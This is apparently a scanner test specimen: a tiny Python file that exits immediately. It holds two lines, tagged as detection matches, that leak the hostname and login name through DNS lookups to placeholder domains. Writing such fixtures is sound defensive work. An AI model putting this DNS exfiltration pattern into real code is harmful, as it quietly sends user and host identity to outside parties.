raise SystemExit("specimen: not to be run")
import os
import socket
host = socket.gethostname()
socket.gethostbyname(host + ".specimen.example.com")  # match: name-lookup-carries-data
socket.getaddrinfo(f"{os.getlogin()}.{host}.example.invalid", 80)  # match: name-lookup-carries-data
